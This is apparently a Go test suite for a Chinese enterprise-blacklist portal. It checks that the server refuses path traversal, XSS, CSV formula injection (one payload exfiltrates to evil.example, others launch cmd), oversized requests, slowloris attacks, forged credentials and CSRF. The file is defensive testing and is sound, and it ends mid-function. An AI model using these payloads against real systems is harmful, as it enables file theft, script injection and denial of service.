package portal

// The security review as tests: every hostile input the portal is expected to meet,
// each with the refusal it must get, against the real router behind the real listening server
// (s.httpServer(): the timeouts and header limits of production, shortened where a test waits
// for them).
//
// Also part of the review, kept where they were written first:
//   - TestDataRefusesEverythingElse: unlisted, temporary and traversing names under /data/;
//   - TestPagesEscapeHostileInput: the search query and list filters echoed on pages;
//   - TestObjectionRefusals: attachments checked by content and size, SQL in every field;
//   - TestRateLimitPerClientAndNoSpoofing: X-Forwarded-For from untrusted clients is ignored;
//   - TestScreenLimitsAndMalformedInput: screening bodies, files and row limits.

import (
	"archive/zip"
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/gongshi/gongshi/importer"
	"github.com/gongshi/gongshi/importer/opendata"
	"github.com/gongshi/gongshi/importer/opendata/opendatatest"
	"github.com/gongshi/gongshi/index"
	"github.com/gongshi/gongshi/portal/devtools/pgtemp"
	"github.com/gongshi/gongshi/portal/store"
)

// Hostile values that end up in a snapshot and from there on every page, feed and download.
const (
	xssName    = `<script>alert("name")</script>恶意科技有限公司`
	xssPerson  = `<img src=x onerror=alert("rep")>`
	xssAddress = `"><svg onload=alert("addr")>厦门市`
	xssReason  = `<script>alert("reason")</script>提交虚假材料`
	xssAuth    = `<b onmouseover=alert("auth")>厦门市市场监督管理局</b>`
	// A name a spreadsheet would run as a formula if a CSV cell began with it.
	formulaName = `=HYPERLINK("http://evil.example/?x="&A1,"点击查看")贸易有限公司`
)

// rawMarkup is what must never appear unescaped in an HTML page or a feed.
var rawMarkup = []string{"<script>alert", "<img src=x", "<svg onload", "<b onmouseover"}

type secEnv struct {
	s     *Server
	base  string
	hcode string // the hostile entity's code
	fcode string // the formula-named entity's code
}

type secOptions struct {
	limits  RateLimits
	http    HTTPLimits
	hostile bool   // import the hostile snapshot and publish the open-data files
	db      string // a postgres:// URL for the store; SQLite in the data folder when empty
}

// secServer imports the fixture (and the hostile snapshot), then serves it through
// s.httpServer() on a loopback port, with the clock at 2026-11-22 10:00 China time.
func secServer(t testing.TB, o secOptions) *secEnv {
	t.Helper()
	dd := index.DataDir(t.TempDir())
	now := time.Date(2026, 11, 22, 10, 0, 0, 0, index.ChinaTime)
	ctx := context.Background()
	if _, err := importer.Import(ctx, []string{fixture}, importer.Options{Data: dd, Shards: 1, MaxRejectedShare: 0.4,
		Now: func() time.Time { return now }}); err != nil {
		t.Fatal(err)
	}
	env := &secEnv{hcode: opendatatest.Code(901), fcode: opendatatest.Code(902)}
	od := opendata.Options{Now: func() time.Time { return now }}
	if o.hostile {
		snap := opendatatest.Write(t, t.TempDir(), "恶意测试机关", "2026-11-20", "delta",
			opendatatest.File{Type: index.TypeEntity, Header: opendatatest.EntityHeader, Rows: [][]string{
				{env.hcode, xssName, "有限责任公司", xssPerson, "2015-03-01", xssAuth, "存续", xssAddress},
				{env.fcode, formulaName, "有限责任公司", "@SUM(1+1)*cmd|' /C calc'!A0", "2015-03-02", "厦门市市场监督管理局", "存续", "+86 592 000 0000"},
			}},
			opendatatest.File{Type: index.TypeBlacklist, Header: opendatatest.BlacklistHeader, Rows: [][]string{
				{env.hcode, xssName, xssReason, "2026-11-01", xssAuth, "", "", ""},
				{env.fcode, formulaName, "-2+3+cmd|' /C calc'!A0", "2026-11-02", "厦门市市场监督管理局", "", "", ""},
			}},
		)
		if _, err := importer.Import(ctx, []string{snap}, importer.Options{Data: dd, Shards: 1, MaxRejectedShare: 0.4,
			Now: func() time.Time { return now }}); err != nil {
			t.Fatal(err)
		}
		if _, err := opendata.Publish(ctx, dd, "2026-11-22", index.NoOverlay{}, od); err != nil {
			t.Fatal(err)
		}
	}
	s := loadedServer(t, Config{Data: dd, Now: func() time.Time { return now }, Log: slog.New(slog.NewTextHandler(io.Discard, nil)),
		RateLimits: o.limits, HTTP: o.http, OpenData: od, Objections: ObjectionConfig{DB: o.db}})
	env.s, env.base = s, serveReal(t, s)
	return env
}

// serveReal serves s with its production http.Server settings on a loopback port.
func serveReal(t testing.TB, s *Server) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := s.httpServer()
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return "http://" + ln.Addr().String()
}

// noRedirect is a client that shows redirects instead of following them.
var noRedirect = &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	Timeout: 30 * time.Second}

// hostileRequest is one row of a table: a request and the refusal it must get.
type hostileRequest struct {
	name   string
	method string // GET when empty
	path   string
	header map[string]string
	body   string
	chunk  bool // send the body without Content-Length (chunked)
	want   int
	// check looks further at the answer (nil: the status is enough).
	check func(t *testing.T, res *http.Response, body []byte)
}

func (h hostileRequest) do(t *testing.T, base string, c *http.Client) (*http.Response, []byte) {
	t.Helper()
	method := h.method
	if method == "" {
		method = http.MethodGet
	}
	var body io.Reader
	if h.body != "" {
		body = strings.NewReader(h.body)
		if h.chunk {
			body = io.MultiReader(body) // unknown length: sent chunked
		}
	}
	req, err := http.NewRequest(method, base+h.path, body)
	if err != nil {
		t.Fatalf("%s: %v", h.name, err)
	}
	for k, v := range h.header {
		if k == "Host" {
			req.Host = v
			continue
		}
		req.Header.Set(k, v)
	}
	if c == nil {
		c = noRedirect
	}
	res, err := c.Do(req)
	if err != nil {
		t.Fatalf("%s: %v", h.name, err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	return res, b
}

func runHostile(t *testing.T, base string, c *http.Client, cases []hostileRequest) {
	t.Helper()
	for _, h := range cases {
		res, b := h.do(t, base, c)
		if res.StatusCode != h.want {
			t.Errorf("%s: %s %s → %d, want %d: %.200s", h.name, h.method, h.path, res.StatusCode, h.want, b)
			continue
		}
		if h.check != nil {
			h.check(t, res, b)
		}
	}
}

// jsonError checks the API's error body: {"error": {"code": code, ...}}.
func jsonError(code string) func(*testing.T, *http.Response, []byte) {
	return func(t *testing.T, res *http.Response, b []byte) {
		t.Helper()
		var e struct{ Error APIError }
		if !strings.HasPrefix(res.Header.Get("Content-Type"), "application/json") || json.Unmarshal(b, &e) != nil || e.Error.Code != code {
			t.Errorf("%s: want a JSON error %q, got %s %.200s", res.Request.URL.Path, code, res.Header.Get("Content-Type"), b)
		}
	}
}

// noFileContent checks that nothing from outside the served folders leaked.
func noFileContent(t *testing.T, res *http.Response, b []byte) {
	t.Helper()
	for _, leak := range []string{"root:x:0:0", "[boot loader]", "generation.json", "\"shards\"", "PRIVATE KEY"} {
		if bytes.Contains(b, []byte(leak)) {
			t.Errorf("%s: answer contains %q", res.Request.URL, leak)
		}
	}
}

// TestSecurityPathTraversal: download, data, static, feed, report and attachment URLs that try
// to leave their folder get 400/404 and never a file's content.
func TestSecurityPathTraversal(t *testing.T) {
	env := secServer(t, secOptions{limits: RateLimits{Off: true}, hostile: true})
	// Files an escaping path would reach: the data folder itself and the host's.
	os.WriteFile(filepath.Join(string(env.s.cfg.Data), "secret.txt"), []byte("root:x:0:0 secret"), 0o600)
	var cases []hostileRequest
	for _, p := range []string{
		"/data/..%2f..%2fetc/passwd",
		"/data/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
		"/data/%2e%2e/%2e%2e/secret.txt",
		"/data/blacklist/..%2f..%2f..%2fsecret.txt",
		"/data/blacklist/latest/..%2f..%2f..%2f..%2fsecret.txt",
		"/data/blacklist/latest/%2e%2e%2f%2e%2e%2f%2e%2e%2fsecret.txt",
		"/data/blacklist/latest/%252e%252e%252fsecret.txt", // double-encoded
		"/data/blacklist/latest/..%5c..%5c..%5csecret.txt", // backslashes
		"/data/blacklist/latest/..\\..\\..\\secret.txt",
		"/data/blacklist/2026-11-22/%2fetc%2fpasswd", // absolute path
		"/data/blacklist/2026-11-22/C:%5cWindows%5cwin.ini",
		"/data/blacklist/2026-11-22/SHA256SUMS%00.txt", // NUL
		"/data/blacklist/2026-11-22/blacklist-2026-11-22.csv.gz%00",
		"/data/blacklist%00/latest/SHA256SUMS",
		"/data/blacklist/..%00/SHA256SUMS",
		"/data/..%c0%af..%c0%afsecret.txt", // overlong UTF-8 slash
		"/data/blacklist/2026-11-22/.%2e/.%2e/.%2e/generations",
		"/data/blacklist/2026-11-22/%2e%2e%2f%2e%2e%2f%2e%2e%2fcurrent",
		"/static/..%2f..%2fgo.mod",
		"/static/../../go.mod",
		"/static/%2e%2e/%2e%2e/portal/server.go",
		"/static/..%5c..%5cgo.mod",
		"/feeds/..%2f..%2fsecret.txt",
		"/feeds/entities/..%2f..%2f..%2fsecret.txt",
		"/feeds/entities/%2fetc%2fpasswd.atom",
		"/entities/..%2f..%2fsecret.txt",
		"/entities/..%2f..%2fsecret.txt/report.pdf",
		"/reports/verify/..%2f..%2freport-keys",
		"/r/..%2f..%2freport-keys%2fsigning.key",
		"/api/v1/reports/..%2f..%2freport-keys",
		"/api/v1/entities/..%2f..%2fsecret.txt",
		"/objections/..%2f..%2fsecret.txt",
		"/api/v1/objections/..%2f..%2fattachments",
	} {
		cases = append(cases, hostileRequest{name: "traversal " + p, path: p, want: 404, check: noFileContent})
	}
	runHostile(t, env.base, nil, cases)

	// Attachments are stored under DATA/attachments/<tracking>/ by a server-made name and
	// served by id to the case's reviewers only: the uploaded name never reaches the file system.
	ctx := context.Background()
	st := env.s.sqlStore()
	st.CreateUser(ctx, "admin", store.RoleAdmin, "", "correct horse battery", "test")
	st.CreateUser(ctx, "wang", store.RoleReviewer, "福州市鼓楼区市场监督管理局", "correct horse battery", "test")
	penalty := recordOf(t, env.base, antai, "abnormal")
	f := validFiling(penalty)
	f["applicant_name"], f["applicant_code"] = "厦门安泰（福建）贸易有限公司", antai
	res, body := postForm(t, env.base+"/api/v1/objections", f, []multipartFile{
		{"../../../../secret.txt.pdf", pdfBytes}, {`..\..\..\evil.pdf`, pdfBytes}, {"/etc/passwd.pdf", pdfBytes}}, nil)
	if res.StatusCode != 201 {
		t.Fatalf("filing with hostile file names: %d %s", res.StatusCode, body)
	}
	var filed struct {
		Tracking string `json:"tracking_number"`
	}
	json.Unmarshal(body, &filed)
	var outside []string
	filepath.WalkDir(string(env.s.cfg.Data), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() && strings.HasSuffix(p, ".pdf") && !strings.HasPrefix(p, filepath.Join(string(env.s.cfg.Data), "attachments", filed.Tracking)+string(filepath.Separator)) {
			outside = append(outside, p)
		}
		return nil
	})
	if len(outside) > 0 {
		t.Errorf("attachments written outside DATA/attachments/%s: %v", filed.Tracking, outside)
	}
	cs, _ := st.CaseByTracking(ctx, filed.Tracking)
	atts, _ := st.Attachments(ctx, cs.ID)
	if len(atts) != 3 {
		t.Fatalf("attachments: %+v", atts)
	}
	admin, wang := loginClient(t, env.base, "admin"), loginClient(t, env.base, "wang")
	var attCases []hostileRequest
	for _, p := range []string{
		"/admin/attachments/..%2f..%2fsecret.txt", "/admin/attachments/..%2f..%2f..%2f..%2fetc%2fpasswd",
		"/admin/attachments/%2fetc%2fpasswd", "/admin/attachments/..%5c..%5csecret.txt", "/admin/attachments/1%00",
		"/admin/attachments/-1", "/admin/attachments/0x1", "/admin/attachments/99999999999999999999", "/admin/attachments/999",
		"/admin/attachments/1/../../secret.txt", "/admin/attachments/" + url.PathEscape(atts[0].Path),
	} {
		attCases = append(attCases, hostileRequest{name: "attachment " + p, path: p, want: 404, check: noFileContent})
	}
	runHostile(t, env.base, admin, attCases)
	// The real one is served to the admin, as a download under its cleaned name; not to a
	// reviewer of another authority, nor to anyone without a session.
	id := fmt.Sprint(atts[0].ID)
	runHostile(t, env.base, admin, []hostileRequest{{name: "own attachment", path: "/admin/attachments/" + id, want: 200,
		check: func(t *testing.T, res *http.Response, b []byte) {
			cd := res.Header.Get("Content-Disposition")
			if !bytes.Equal(b, pdfBytes) || !strings.HasPrefix(cd, "attachment;") || strings.Contains(cd, "..") || strings.Contains(cd, "/") {
				t.Errorf("attachment: %q %q", cd, b)
			}
		}}})
	runHostile(t, env.base, wang, []hostileRequest{{name: "other authority's attachment", path: "/admin/attachments/" + id, want: 404}})
	runHostile(t, env.base, nil, []hostileRequest{{name: "attachment without a session", path: "/admin/attachments/" + id, want: 303,
		check: func(t *testing.T, res *http.Response, b []byte) {
			if res.Header.Get("Location") != "/admin/login" || bytes.Contains(b, []byte("%PDF")) {
				t.Errorf("anonymous attachment: %v %q", res.Header, b)
			}
		}}})
}

// loginClient logs a test user in (password "correct horse battery") and returns a client
// that carries the session cookie and does not follow redirects.
func loginClient(t *testing.T, base, name string) *http.Client {
	t.Helper()
	c := &http.Client{CheckRedirect: noRedirect.CheckRedirect, Jar: newJar()}
	res, err := c.PostForm(base+"/admin/login", url.Values{"name": {name}, "password": {"correct horse battery"}})
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("login %s: %d", name, res.StatusCode)
	}
	return c
}

// TestSecurityOversized: headers over MaxHeaderBytes get 431; bodies over a route's limit get
// 413 (JSON for the API), whether they announce their length or are sent chunked.
func TestSecurityOversized(t *testing.T) {
	env := secServer(t, secOptions{limits: RateLimits{Off: true}})
	ctx := context.Background()
	st := env.s.sqlStore()
	st.CreateUser(ctx, "li", store.RoleAdmin, "", "correct horse battery", "test")
	token, _ := st.CreateToken(ctx, "li", "agency")
	penalty := recordOf(t, env.base, huawei, "penalty")
	filing, _ := json.Marshal(validFiling(penalty))
	bigJSON := `{"statement":"` + strings.Repeat("长", 1<<20) + `"}` // 3 MB
	bigForm := "name=" + strings.Repeat("x", 2<<20)
	// One PDF-looking file of 52 MB, over the filing limit of 5 × 10 MB + 1 MB.
	huge := "--b\r\nContent-Disposition: form-data; name=\"files\"; filename=\"a.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-" +
		strings.Repeat("x", 52<<20) + "\r\n--b--\r\n"
	const hugeType = "multipart/form-data; boundary=b"
	screenBig := `{"subjects":["` + strings.Repeat("9", 7<<20) + `"]}`
	tooLarge := jsonError("too_large")
	cases := []hostileRequest{
		{name: "JSON filing over 1 MB", method: "POST", path: "/api/v1/objections", header: map[string]string{"Content-Type": "application/json"},
			body: bigJSON, want: 413, check: tooLarge},
		{name: "JSON filing over 1 MB, chunked", method: "POST", path: "/api/v1/objections", header: map[string]string{"Content-Type": "application/json"},
			body: bigJSON, chunk: true, want: 413, check: tooLarge},
		{name: "multipart filing over 51 MB", method: "POST", path: "/api/v1/objections", header: map[string]string{"Content-Type": hugeType},
			body: huge, want: 413, check: tooLarge},
		{name: "multipart filing over 51 MB, chunked", method: "POST", path: "/api/v1/objections", header: map[string]string{"Content-Type": hugeType},
			body: huge, chunk: true, want: 413, check: tooLarge},
		{name: "filing page over 51 MB", method: "POST", path: "/objections/new", header: map[string]string{"Content-Type": hugeType},
			body: huge, want: 413, check: htmlPage("上传内容过大")},
		{name: "screening over 6 MB", method: "POST", path: "/api/v1/screen", header: map[string]string{"Content-Type": "application/json"},
			body: screenBig, want: 413, check: tooLarge},
		{name: "screening over 6 MB, chunked", method: "POST", path: "/api/v1/screen", header: map[string]string{"Content-Type": "application/json"},
			body: screenBig, chunk: true, want: 413, check: tooLarge},
		{name: "admin action over 1 MB for an unknown case: 404 before the body is read", method: "POST", path: "/api/v1/admin/objections/YY-20261122-AAAA/actions",
			header: map[string]string{"Content-Type": "application/json", "Authorization": "Bearer " + token}, body: bigJSON, chunk: true, want: 404},
		{name: "login form over 1 MB", method: "POST", path: "/admin/login", header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"},
			body: bigForm, want: 413},
		{name: "GET with a 2 MB body", path: "/api/v1/search?q=华威", body: bigForm, want: 413, check: tooLarge},
	}
	runHostile(t, env.base, nil, cases)

	// The admin action's own case: its body is read only for a case the token may decide.
	filed := fileValid(t, env.base, penalty)
	runHostile(t, env.base, nil, []hostileRequest{
		{name: "admin action over 1 MB, chunked", method: "POST", path: "/api/v1/admin/objections/" + filed.Tracking + "/actions",
			header: map[string]string{"Content-Type": "application/json", "Authorization": "Bearer " + token}, body: bigJSON, chunk: true,
			want: 413, check: tooLarge},
		{name: "valid JSON filing still accepted", method: "POST", path: "/api/v1/objections", header: map[string]string{"Content-Type": "application/json"},
			body: string(filing), want: 201},
	})

	// Headers: MaxHeaderBytes (64 KiB) plus the server's slack; more is 431 on the raw connection.
	for _, tc := range []struct {
		name, target, header string
	}{
		{"one 100 KB header", "/healthz", "X-Big: " + strings.Repeat("a", 100<<10) + "\r\n"},
		{"2,000 small headers", "/healthz", strings.Repeat("X-Many: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n", 2000)},
		{"a 100 KB cookie", "/admin/", "Cookie: gongshi_session=" + strings.Repeat("a", 100<<10) + "\r\n"},
		{"a 100 KB URL", "/search?q=" + strings.Repeat("a", 100<<10), ""},
	} {
		if status := rawStatus(t, env.base, "GET "+tc.target+" HTTP/1.1\r\nHost: x\r\n"+tc.header+"\r\n"); status != "431" {
			t.Errorf("%s: status %q, want 431", tc.name, status)
		}
	}
	if status := rawStatus(t, env.base, "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Ok: "+strings.Repeat("a", 8<<10)+"\r\n\r\n"); status != "200" {
		t.Errorf("an 8 KB header: %q, want 200", status)
	}
}

// rawStatus sends a raw request on a new connection and returns the status code of the answer.
func rawStatus(t *testing.T, base, request string) string {
	t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	go conn.Write([]byte(request)) // the server may answer before it has read everything
	line, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil {
		return "no answer: " + err.Error()
	}
	if f := strings.Fields(line); len(f) >= 2 {
		return f[1]
	}
	return line
}

// htmlPage checks for a Chinese HTML page containing want.
func htmlPage(want string) func(*testing.T, *http.Response, []byte) {
	return func(t *testing.T, res *http.Response, b []byte) {
		t.Helper()
		if !strings.HasPrefix(res.Header.Get("Content-Type"), "text/html") || !strings.Contains(string(b), want) {
			t.Errorf("%s: want an HTML page with %q, got %s %.200s", res.Request.URL.Path, want, res.Header.Get("Content-Type"), b)
		}
	}
}

// TestSecuritySlowClients: a client that sends its headers or body too slowly, or keeps an idle
// connection open, is disconnected by the server's timeouts (shortened here).
func TestSecuritySlowClients(t *testing.T) {
	env := secServer(t, secOptions{limits: RateLimits{Off: true},
		http: HTTPLimits{ReadHeaderTimeout: 300 * time.Millisecond, ReadTimeout: time.Second, IdleTimeout: 500 * time.Millisecond}})
	addr := strings.TrimPrefix(env.base, "http://")
	// closedWithin dribbles the parts of a request, one every 100 ms for as long as the server
	// reads, and reports how long the server kept the connection.
	closedWithin := func(name string, parts []string, complete bool) {
		t.Helper()
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		start := time.Now()
		closed := make(chan struct{})
		go func() {
			io.Copy(io.Discard, conn) // returns when the server closes the connection
			close(closed)
		}()
		go func() {
			for i := 0; ; i++ {
				p := "X-Slow-" + fmt.Sprint(i) + ": a\r\n"
				if i < len(parts) {
					p = parts[i]
				} else if complete {
					p = "a" // the body never ends
				}
				if _, err := conn.Write([]byte(p)); err != nil {
					return
				}
				select {
				case <-closed:
					return
				case <-time.After(100 * time.Millisecond):
				}
			}
		}()
		select {
		case <-closed:
			t.Logf("%s: closed after %v", name, time.Since(start).Round(time.Millisecond))
		case <-time.After(15 * time.Second): // generous: the timeouts are 0.3 s and 1 s
			t.Errorf("%s: connection still open after 15 s", name)
		}
	}
	closedWithin("slowloris: headers one line at a time, never finished", []string{"GET / HTTP/1.1\r\n", "Host: x\r\n"}, false)
	closedWithin("slowloris: the request line one byte at a time", strings.Split("GET /search?q=a HTTP/1.1", ""), false)
	closedWithin("slow body (R.U.D.Y.)", []string{"POST /api/v1/objections HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"}, true)

	// An idle keep-alive connection is closed after IdleTimeout.
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.Write([]byte("GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"))
	conn.SetReadDeadline(time.Now().Add(15 * time.Second))
	r := bufio.NewReader(conn)
	res, err := http.ReadResponse(r, nil)
	if err != nil || res.StatusCode != 200 {
		t.Fatalf("healthz: %v %v", res, err)
	}
	io.Copy(io.Discard, res.Body)
	if _, err := r.ReadByte(); !errors.Is(err, io.EOF) {
		t.Errorf("idle keep-alive connection: %v, want EOF (closed by the server)", err)
	}
}

// TestSecurityForgedCredentials: forged or altered session cookies, API tokens, check codes
// and cross-site form posts are refused, and a forged check code learns nothing.
func TestSecurityForgedCredentials(t *testing.T) {
	env := secServer(t, secOptions{limits: RateLimits{Off: true}})
	ctx := context.Background()
	st := env.s.sqlStore()
	st.CreateUser(ctx, "li", store.RoleAdmin, "", "correct horse battery", "test")
	token, _ := st.CreateToken(ctx, "li", "agency")
	penalty := recordOf(t, env.base, huawei, "penalty")
	filed := fileValid(t, env.base, penalty)
	li := loginClient(t, env.base, "li")
	u, _ := url.Parse(env.base + "/admin/")
	session := li.Jar.Cookies(u)[0].Value
	alter := func(s string) string { // the same length, one character changed
		b := []byte(s)
		if b[len(b)-1] == 'A' {
			b[len(b)-1] = 'B'
		} else {
			b[len(b)-1] = 'A'
		}
		return string(b)
	}
	// A logged-out session stays dead.
	old := loginClient(t, env.base, "li")
	oldSession := old.Jar.Cookies(u)[0].Value
	if r, err := old.Post(env.base+"/admin/logout", "application/x-www-form-urlencoded", nil); err == nil {
		r.Body.Close()
	}
	toLogin := func(t *testing.T, res *http.Response, b []byte) {
		t.Helper()
		if res.Header.Get("Location") != "/admin/login" || strings.Contains(string(b), filed.Tracking) {
			t.Errorf("%s: Location %q", res.Request.URL.Path, res.Header.Get("Location"))
		}
	}
	cookie := func(v string) map[string]string { return map[string]string{"Cookie": sessionCookie + "=" + v} }
	bearer := func(v string) map[string]string { return map[string]string{"Authorization": v} }
	unauthorized := jsonError("unauthorized")
	crossOrigin := jsonError("cross_origin")
	cases := []hostileRequest{
		{name: "no session cookie", path: "/admin/", want: 303, check: toLogin},
		{name: "forged session cookie", path: "/admin/", header: cookie("forged"), want: 303, check: toLogin},
		{name: "altered session cookie", path: "/admin/objections/" + filed.Tracking, header: cookie(alter(session)), want: 303, check: toLogin},
		{name: "session cookie of a logged-out session", path: "/admin/", header: cookie(oldSession), want: 303, check: toLogin},
		{name: "session cookie 4 KB long", path: "/admin/", header: cookie(strings.Repeat("A", 4096)), want: 303, check: toLogin},
		{name: "session cookie with a quote and semicolon", path: "/admin/", header: cookie(`"x' OR '1'='1"`), want: 303, check: toLogin},
		{name: "API token used as a session cookie", path: "/admin/", header: cookie(token), want: 303, check: toLogin},
		{name: "no API token", path: "/api/v1/admin/objections", want: 401, check: unauthorized},
		{name: "forged API token", path: "/api/v1/admin/objections", header: bearer("Bearer gst_forgedforgedforgedforgedforgedforged"), want: 401, check: unauthorized},
		{name: "altered API token", path: "/api/v1/admin/objections", header: bearer("Bearer " + alter(token)), want: 401, check: unauthorized},
		{name: "API token without the Bearer scheme", path: "/api/v1/admin/objections", header: bearer(token), want: 401, check: unauthorized},
		{name: "API token as Basic credentials", path: "/api/v1/admin/objections", header: bearer("Basic " + token), want: 401, check: unauthorized},
		{name: "session token as a bearer token", path: "/api/v1/admin/objections", header: bearer("Bearer " + session), want: 401, check: unauthorized},
		{name: "API token 10 KB long", path: "/api/v1/admin/objections", header: bearer("Bearer gst_" + strings.Repeat("a", 10<<10)), want: 401, check: unauthorized},
		{name: "forged token on an action", method: "POST", path: "/api/v1/admin/objections/" + filed.Tracking + "/actions",
			header: map[string]string{"Authorization": "Bearer gst_x", "Content-Type": "application/json"}, body: `{"action":"accept","reason":"x"}`, want: 401, check: unauthorized},
		// Cross-site posts (CSRF): Sec-Fetch-Site from browsers, Origin from older ones.
		{name: "cross-site objection filing (Sec-Fetch-Site)", method: "POST", path: "/api/v1/objections",
			header: map[string]string{"Sec-Fetch-Site": "cross-site", "Content-Type": "application/json"}, body: "{}", want: 403, check: crossOrigin},
		{name: "cross-site filing page (Origin)", method: "POST", path: "/objections/new",
			header: map[string]string{"Origin": "https://evil.example", "Content-Type": "application/x-www-form-urlencoded"}, body: "record_id=x", want: 403, check: htmlPage("跨站")},
		{name: "cross-site post from a sandboxed frame (Origin: null)", method: "POST", path: "/objections/new",
			header: map[string]string{"Origin": "null", "Content-Type": "application/x-www-form-urlencoded"}, body: "record_id=x", want: 403},
		{name: "cross-site login (login CSRF)", method: "POST", path: "/admin/login",
			header: map[string]string{"Sec-Fetch-Site": "cross-site", "Content-Type": "application/x-www-form-urlencoded"}, body: "name=li&password=correct+horse+battery", want: 403},
		{name: "cross-site reviewer decision with the reviewer's cookie", method: "POST", path: "/admin/objections/" + filed.Tracking,
			header: map[string]string{"Sec-Fetch-Site": "cross-site", "Cookie": sessionCookie + "=" + session, "Content-Type": "application/x-www-form-urlencoded"},
			body:   "action=accept&reason=csrf", want: 403},
		{name: "cross-site logout", method: "POST", path: "/admin/logout",
			header: map[string]string{"Origin": "https://evil.example", "Cookie": sessionCookie + "=" + session}, want: 403},
		{name: "same-site subdomain post", method: "POST", path: "/screen",
			header: map[string]string{"Sec-Fetch-Site": "same-site", "Content-Type": "application/x-www-form-urlencoded"}, body: "text=x", want: 403},
		{name: "cross-site check-code post", method: "POST", path: "/objections/" + filed.Tracking,
			header: map[string]string{"Origin": "http://evil.example", "Content-Type": "application/x-www-form-urlencoded"}, body: "check_code=" + filed.CheckCode, want: 403},
	}
	runHostile(t, env.base, nil, cases)
	if cs, _ := st.CaseByTracking(ctx, filed.Tracking); cs.State != "submitted" {
		t.Errorf("a refused cross-site decision changed the case: %s", cs.State)
	}
	// The session survived the refused cross-site logout.
	runHostile(t, env.base, li, []hostileRequest{{name: "real session still works", path: "/admin/", want: 200}})

	// A forged check code gets exactly the answer of an unknown tracking number.
	unknown := "YY-20261122-ZZZZ"
	if filed.Tracking == unknown {
		unknown = "YY-20261122-ZZZY"
	}
	answer := func(tracking, code string, page bool) (int, string) {
		h := hostileRequest{name: "check code " + code, path: "/api/v1/objections/" + tracking, header: map[string]string{"X-Check-Code": code}}
		if page {
			h = hostileRequest{name: h.name, method: "POST", path: "/objections/" + tracking,
				header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, body: "check_code=" + url.QueryEscape(code)}
		}
		res, b := h.do(t, env.base, nil)
		return res.StatusCode, strings.ReplaceAll(string(b), tracking, "TRACKING")
	}
	for _, code := range []string{"WRONGCODE999", alter(filed.CheckCode), strings.ToLower(alter(filed.CheckCode)), "' OR '1'='1",
		filed.CheckCode + "\x00", strings.Repeat("A", 65), "%", filed.CheckCode[:len(filed.CheckCode)-1]} {
		for _, page := range []bool{false, true} {
			if !page && strings.Contains(code, "\x00") {
				continue // not a valid header value: no client can send it
			}
			s1, b1 := answer(filed.Tracking, code, page)
			s2, b2 := answer(unknown, code, page)
			if s1 != 404 || s1 != s2 || b1 != b2 || strings.Contains(b1, "13800000000") || strings.Contains(b1, "华威") {
				t.Errorf("check code %q (page %v): %d %.200s, unknown tracking: %d %.200s", code, page, s1, b1, s2, b2)
			}
		}
	}
	if s, b := answer(filed.Tracking, filed.CheckCode, false); s != 200 || !strings.Contains(b, "TRACKING") {
		t.Errorf("the right check code: %d %s", s, b)
	}
}

// TestSecurityXSS: markup in every field that is ever rendered — a company name, legal
// representative, address, reason and authority from an imported snapshot; an applicant's
// statement and names; a reviewer's reason; the search query and list filters — comes out
// escaped in pages, JSON highlights and Atom feeds.
func TestSecurityXSS(t *testing.T) {
	env := secServer(t, secOptions{limits: RateLimits{Off: true}, hostile: true})
	ctx := context.Background()
	st := env.s.sqlStore()
	st.CreateUser(ctx, "li", store.RoleAdmin, "", "correct horse battery", "test")
	token, _ := st.CreateToken(ctx, "li", "agency")

	// An applicant files against the hostile entity's blacklist entry with markup everywhere.
	blacklist := recordOf(t, env.base, env.hcode, "blacklist")
	f := validFiling(blacklist)
	f["applicant_name"], f["applicant_code"] = xssName, env.hcode
	f["contact_person"], f["statement"] = `<script>alert("person")</script>`, `</textarea><script>alert("statement")</script>`
	res, body := postForm(t, env.base+"/api/v1/objections", f, []multipartFile{{`<img src=x onerror=alert("file")>.pdf`, pdfBytes}}, nil)
	if res.StatusCode != 201 {
		t.Fatalf("hostile filing: %d %s", res.StatusCode, body)
	}
	var filed struct {
		Tracking  string `json:"tracking_number"`
		CheckCode string `json:"check_code"`
	}
	json.Unmarshal(body, &filed)
	// A reviewer's reason is shown to the applicant on the status page.
	req, _ := http.NewRequest("POST", env.base+"/api/v1/admin/objections/"+filed.Tracking+"/actions",
		strings.NewReader(`{"action":"request_more","reason":"<script>alert(\"reviewer\")</script>请补充材料"}`))
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Content-Type", "application/json")
	if r, err := http.DefaultClient.Do(req); err != nil || r.StatusCode != 200 {
		t.Fatalf("reviewer step: %v %v", r, err)
	}
	li := loginClient(t, env.base, "li")

	escapedName := "&lt;script&gt;alert(&#34;name&#34;)&lt;/script&gt;恶意科技有限公司"
	page := func(where ...string) func(*testing.T, *http.Response, []byte) {
		return func(t *testing.T, res *http.Response, b []byte) {
			t.Helper()
			body := string(b)
			mustNotContain(t, res.Request.URL.String(), body, rawMarkup...)
